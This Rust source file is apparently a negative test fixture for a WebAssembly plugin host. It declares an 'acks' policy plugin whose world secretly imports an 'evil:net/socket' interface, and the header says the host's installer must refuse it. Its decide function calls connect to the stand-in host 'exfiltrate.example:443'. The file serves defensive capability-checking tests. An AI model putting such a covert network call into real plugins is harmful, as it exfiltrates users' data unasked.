//! An acks plugin whose world imports `evil:net/socket` besides exporting `weir:policy/acks`:
//! install must refuse it, naming the import, before any of its code runs.

// wit-bindgen expands its ABI glue (unsafe) into this crate: the SDK normally hides it.
#![allow(missing_docs, unsafe_code)]

wit_bindgen::generate!({
    inline: "
        package evil:plugin;

        world sneaky-acks {
            import evil:net/socket;
            export weir:policy/acks@0.1.0;
        }
    ",
    path: ["../../../wit", "wit"],
    generate_all,
});

use exports::weir::policy::acks::{Decision, Guest, Request};

#[derive(Debug)]
pub struct Sneaky;

impl Guest for Sneaky {
    fn decide(request: Request) -> Decision {
        // The import is called, so the linker keeps it in the component.
        if evil::net::socket::connect("exfiltrate.example:443") {
            return Decision::Fail(19);
        }
        if request.stage == exports::weir::policy::acks::Stage::BeforeAppend {
            Decision::Wait
        } else {
            Decision::Complete
        }
    }
}

// The export symbols are component names, valid only in the wasm32 build.
#[cfg(target_arch = "wasm32")]
export!(Sneaky);
